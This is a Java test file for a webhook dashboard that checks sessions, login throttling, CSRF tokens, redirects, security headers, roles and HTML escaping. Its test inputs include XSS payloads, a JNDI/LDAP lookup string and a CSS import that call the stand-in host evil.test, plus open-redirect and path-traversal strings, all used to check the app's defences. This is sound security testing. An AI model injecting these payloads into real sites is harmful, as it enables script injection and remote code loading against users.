package dev.switchhook.app;

import static org.assertj.core.api.Assertions.assertThat;

import dev.switchhook.json.Json;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// The pages over HTTP, without a browser: coming in, roles, forms, escaping.
class DashboardTest {
  private static final String PASSWORD = "correct horse battery";
  private static final Pattern TOKEN = Pattern.compile("name=\"_token\" value=\"([^\"]+)\"");
  private static final List<String> HOSTILE =
      List.of(
          "<script>alert(1)</script>",
          "</script><script>alert(1)</script>",
          "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
          "<style>@import 'http://evil.test'</style>",
          "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
          "${jndi:ldap://evil.test/a}");

  @TempDir static Path directory;
  private static HubFixture fixture;
  private static String setup;
  private static String owner;
  private static DashboardUsers users;
  private static String key;

  @BeforeAll
  static void start() {
    fixture = new HubFixture(directory);
    key = fixture.application("Shop");
    setup = fixture.hub.people().setupToken().reveal();
    HttpResponse<String> made =
        post("/setup", "", form("token", setup, "email", "Ana@example.com", "password", PASSWORD));
    assertThat(made.statusCode()).isEqualTo(303);
    assertThat(get("/endpoints", cookie(made)).statusCode()).isEqualTo(200);
    // passwords of the usual cost would take most of the tests' time
    users = DashboardUsers.of(fixture);
    users.cheapPassword("ana@example.com", PASSWORD);
    owner = cookie(login("ana@example.com", PASSWORD, ""));
  }

  @AfterAll
  static void stop() {
    fixture.close();
  }

  @Test
  void theSetUpLinkWorksOnce() {
    assertThat(get("/setup?token=" + setup, "").statusCode()).isEqualTo(403);
    assertThat(
            post("/setup", "", form("token", setup, "email", "b@example.com", "password", PASSWORD))
                .statusCode())
        .isEqualTo(403);
    assertThat(fixture.hub.people().setupToken().isEmpty()).isTrue();
  }

  @Test
  void signingInMakesANewSessionAndSigningOutEndsIt() {
    HttpResponse<String> in = login("ana@example.com", PASSWORD, owner + "x");
    String session = cookie(in);

    assertThat(in.headers().firstValue("Set-Cookie").orElseThrow())
        .startsWith("switchhook_session=")
        .contains("; HttpOnly; SameSite=Lax")
        .doesNotContain("Secure");
    assertThat(session).isNotEqualTo(owner);
    assertThat(get("/endpoints", session).statusCode()).isEqualTo(200);
    assertThat(post("/logout", session, "").statusCode()).isEqualTo(303);
    assertThat(get("/endpoints", session).statusCode()).isEqualTo(401);
    assertThat(get("/endpoints", "").headers().firstValue("Location"))
        .contains("/login?next=%2Fendpoints");
  }

  @Test
  void signingOutEverywhereEndsEverySessionOfTheUser() {
    newUser("eve@example.com", "viewer");
    String first = cookie(login("eve@example.com", PASSWORD, ""));
    String second = cookie(login("eve@example.com", PASSWORD, ""));

    assertThat(change("/logout/everywhere", first, "/settings", "").statusCode()).isEqualTo(303);
    assertThat(get("/", first).statusCode()).isEqualTo(401);
    assertThat(get("/", second).statusCode()).isEqualTo(401);
  }

  @Test
  void wrongPasswordsAreRefusedAndThenNoneIsLookedAt() {
    newUser("mia@example.com", "viewer");
    for (int i = 0; i < 10; i++) {
      assertThat(login("mia@example.com", "wrong password", "").statusCode()).isEqualTo(401);
    }
    assertThat(login("mia@example.com", PASSWORD, "").statusCode()).isEqualTo(429);
  }

  @Test
  void changesFromElsewhereOrWithoutTheFormTokenAreRefused() {
    String token = token(get("/settings", owner));
    String body = form("_token", token, "theme", "dark", "back", "/");

    for (String origin : List.of("https://evil.test", "null", "http://127.0.0.1:1")) {
      HttpRequest.Builder request = request("/settings/theme", owner).header("Origin", origin);
      assertThat(send(request, body).statusCode()).as(origin).isEqualTo(403);
    }
    for (String site : List.of("cross-site", "same-site", "none")) {
      HttpRequest.Builder request =
          request("/settings/theme", owner).header("Sec-Fetch-Site", site);
      assertThat(send(request, body).statusCode()).as(site).isEqualTo(403);
    }
    assertThat(send(request("/login", "").header("Origin", "https://evil.test"), "").statusCode())
        .isEqualTo(403);
    assertThat(post("/settings/theme", owner, form("theme", "dark")).statusCode()).isEqualTo(403);
    assertThat(
            send(request("/settings/theme", owner).header("Origin", fixture.hub.url()), body)
                .statusCode())
        .isEqualTo(303);
  }

  @Test
  void theFormTokenIsAnotherOnEachPageAndGoodForTheSessionOnly() {
    String first = token(get("/settings", owner));
    String second = token(get("/settings", owner));
    String foreign = cookie(login("ana@example.com", PASSWORD, ""));

    assertThat(first).isNotEqualTo(second).hasSameSizeAs(second);
    for (String good : List.of(first, second)) {
      assertThat(post("/settings/theme", owner, form("_token", good, "theme", "")).statusCode())
          .isEqualTo(303);
    }
    for (String bad : List.of("", "***", "AAAA", second.substring(43), first + first)) {
      assertThat(post("/settings/theme", owner, form("_token", bad)).statusCode())
          .as(bad)
          .isEqualTo(403);
    }
    assertThat(post("/settings/theme", foreign, form("_token", first)).statusCode()).isEqualTo(403);
  }

  @Test
  void afterSigningInOnlyLocalPathsAreGoneTo() {
    for (String next : List.of("https://evil.test", "//evil.test", "/\\evil.test", "/a\nb")) {
      HttpResponse<String> in =
          post("/login", "", form("email", "ana@example.com", "password", PASSWORD, "next", next));
      assertThat(in.headers().firstValue("Location")).as(next).contains("/");
    }
  }

  @Test
  void pagesForbidInlineCodeFramesAndCaches() {
    HttpResponse<String> page = get("/endpoints", owner);

    assertThat(page.headers().firstValue("Content-Security-Policy").orElseThrow())
        .contains("default-src 'none'", "script-src 'self'", "frame-ancestors 'none'")
        .doesNotContain("unsafe");
    assertThat(page.headers().firstValue("Cache-Control")).contains("no-store");
    // with no referrer at all, browsers send forms with the origin "null"
    assertThat(page.headers().firstValue("Referrer-Policy")).contains("same-origin");
    assertThat(page.body()).doesNotContain("style=", "onclick", "<style");
  }

  @Test
  void viewersLookAndDoNotChange() {
    newUser("vic@example.com", "viewer");
    String viewer = cookie(login("vic@example.com", PASSWORD, ""));

    assertThat(get("/endpoints", viewer).body()).doesNotContain("data-dialog=\"add\"");
    HttpResponse<String> refused =
        change(
            "/endpoints",
            viewer,
            "/endpoints",
            form(
                "url", "https://a.example", "description", "A", "event_types", "message.incoming"));
    assertThat(refused.statusCode()).isEqualTo(403);
    assertThat(refused.headers().firstValue("Content-Type").orElseThrow()).contains("text/html");
  }

  @Test
  void somebodyWithoutARoleSeesNothingOfAnApplication() {
    String other = fixture.application("Other");
    String endpoint = endpoint(other, "Secret endpoint");
    newUser("max@example.com", "owner");
    String session = cookie(login("max@example.com", PASSWORD, ""));

    assertThat(get("/endpoints/" + endpoint, session).statusCode()).isEqualTo(404);
    assertThat(get("/endpoints", session).body()).doesNotContain("Secret endpoint");
  }

  @Test
  void anEndpointIsMadeChangedAndRemoved() {
    HttpResponse<String> wrong =
        change("/endpoints", owner, "/endpoints", form("url", "nonsense", "description", ""));
    assertThat(wrong.statusCode()).isEqualTo(422);
    assertThat(wrong.body()).contains("data-open", "aria-invalid=\"true\"", "nonsense");

    HttpResponse<String> made =
        change(
            "/endpoints",
            owner,
            "/endpoints",
            form(
                "url", "https://crm.example.com/hooks",
                "description", "CRM",
                "rate_limit", "10",
                "event_types", "message.incoming"));
    assertThat(made.statusCode()).as(made.body()).isEqualTo(303);
    String there = made.headers().firstValue("Location").orElseThrow().split("\\?", 2)[0];
    assertThat(get(there, owner).body()).contains("https://crm.example.com/hooks", "Deselect All");

    HttpResponse<String> saved =
        change(
            there,
            owner,
            there,
            form(
                "url", "https://crm.example.com/v2",
                "description", "CRM 2",
                "advanced", "1",
                "profile", "standard",
                "retry_schedule", "5s, 1m",
                "headers", "X-Team: crm",
                "event_types", "message.report"));
    assertThat(saved.statusCode()).as(saved.body()).isEqualTo(303);
    assertThat(get(there, owner).body()).contains("CRM 2", "5s, 1m", "X-Team: ***");

    assertThat(change(there + "/secret", owner, there, "").body()).contains("whsec_");
    assertThat(change(there + "/delete", owner, there, "").statusCode()).isEqualTo(303);
    assertThat(get(there, owner).statusCode()).isEqualTo(404);
    String subject = there.substring("/endpoints/".length());
    assertThat(DashboardUsers.audited(fixture))
        .filteredOn(entry -> entry.subject().equals(subject))
        .extracting(entry -> entry.action())
        .containsExactly(
            "endpoints.delete", "endpoints.secret.reveal", "endpoints.patch", "endpoints.create");
  }

  @Test
  void whatStrangersWroteIsOnlyText() {
    for (String text : HOSTILE) {
      String id = endpoint(key, text);
      for (String page : List.of("/endpoints", "/endpoints/" + id)) {
        assertThat(get(page, owner).body())
            .as(page + " with " + text)
            .contains(escaped(text))
            .doesNotContain("<script>alert", "<img src onerror", "<style>@import");
      }
      fixture.send(
          fixture
              .to("/v1/endpoints/" + id)
              .header("x-api-key", key)
              .method("DELETE", BodyPublishers.noBody()));
    }
  }

  @Test
  void aUserInvitedByTheApiComesInOnceByTheLinkAndGoesWithTheRole() {
    String applications = "/v1/applications/" + shop() + "/users";
    var made =
        fixture.post(
            applications,
            HubFixture.ADMIN_KEY,
            Json.object().put("email", "Zoe@example.com").put("role", "viewer"));
    String link = made.path("sign_in").asString();

    String token = link.substring(link.indexOf('?') + 1);
    HttpResponse<String> in = post("/enter", "", token);
    assertThat(in.statusCode()).isEqualTo(303);
    assertThat(get("/endpoints", cookie(in)).statusCode()).isEqualTo(200);
    assertThat(post("/enter", "", token).statusCode()).isEqualTo(403);
    assertThat(
            change(
                    "/settings/password",
                    cookie(in),
                    "/settings",
                    form("new_password", "another long password"))
                .statusCode())
        .isEqualTo(303);
    HttpResponse<String> again = login("zoe@example.com", "another long password", "");
    assertThat(again.statusCode()).isEqualTo(303);
    fixture.send(
        fixture
            .to(applications + "/" + made.path("id").asString())
            .header("x-api-key", HubFixture.ADMIN_KEY)
            .method("DELETE", BodyPublishers.noBody()));
    assertThat(get("/endpoints", cookie(again)).statusCode()).isEqualTo(401);
  }

  @Test
  void assetsAreKeptForEverAndUnknownOnesAreNot() {
    Matcher sheet =
        Pattern.compile("/assets/app\\.[0-9a-f]+\\.css").matcher(get("/login", "").body());
    assertThat(sheet.find()).isTrue();
    HttpResponse<String> found = get(sheet.group(), "");

    assertThat(found.headers().firstValue("Cache-Control").orElseThrow()).contains("immutable");
    assertThat(get("/assets/app.000000000000.css", "").statusCode()).isEqualTo(404);
    assertThat(get("/assets/..%2F..%2Fopenapi.x.json", "").statusCode()).isEqualTo(404);
  }

  private static String escaped(String text) {
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;");
  }

  private static String endpoint(String apiKey, String description) {
    return fixture
        .post(
            "/v1/endpoints",
            apiKey,
            Json.object()
                .put("url", "https://a.example.com/hook")
                .put("description", description)
                .set("event_types", Json.array().add("message.incoming")))
        .path("id")
        .asString();
  }

  /// A user of the first application.
  private static void newUser(String email, String role) {
    users.add(shop(), email, PASSWORD, role);
  }

  private static String shop() {
    return fixture
        .get("/v1/applications?limit=100", HubFixture.ADMIN_KEY)
        .path("data")
        .valueStream()
        .filter(node -> node.path("name").asString().equals("Shop"))
        .findFirst()
        .orElseThrow()
        .path("id")
        .asString();
  }

  private static HttpResponse<String> login(String email, String password, String before) {
    return post("/login", before, form("email", email, "password", password));
  }

  /// A form of a page, with the token that the page gives.
  private static HttpResponse<String> change(
      String path, String session, String page, String body) {
    String token = token(get(page, session));
    return post(path, session, form("_token", token) + (body.isEmpty() ? "" : "&" + body));
  }

  private static String token(HttpResponse<String> page) {
    Matcher found = TOKEN.matcher(page.body());
    assertThat(found.find()).as(page.body()).isTrue();
    return found.group(1);
  }

  private static HttpResponse<String> get(String path, String session) {
    return fixture.send(with(fixture.to(path), session));
  }

  private static HttpResponse<String> post(String path, String session, String body) {
    return send(request(path, session), body);
  }

  private static HttpRequest.Builder request(String path, String session) {
    return with(fixture.to(path), session)
        .header("Content-Type", "application/x-www-form-urlencoded");
  }

  private static HttpResponse<String> send(HttpRequest.Builder request, String body) {
    return fixture.send(request.POST(BodyPublishers.ofString(body)));
  }

  private static HttpRequest.Builder with(HttpRequest.Builder request, String session) {
    return session.isEmpty() ? request : request.header("Cookie", "switchhook_session=" + session);
  }

  private static String cookie(HttpResponse<String> response) {
    String header = response.headers().allValues("Set-Cookie").stream().findFirst().orElse("=;");
    return header.substring(header.indexOf('=') + 1, header.indexOf(';'));
  }

  private static String form(String... pairs) {
    StringBuilder form = new StringBuilder();
    for (int i = 0; i < pairs.length; i += 2) {
      form.append(i == 0 ? "" : "&")
          .append(pairs[i])
          .append('=')
          .append(URLEncoder.encode(pairs[i + 1], StandardCharsets.UTF_8));
    }
    return form.toString();
  }
}
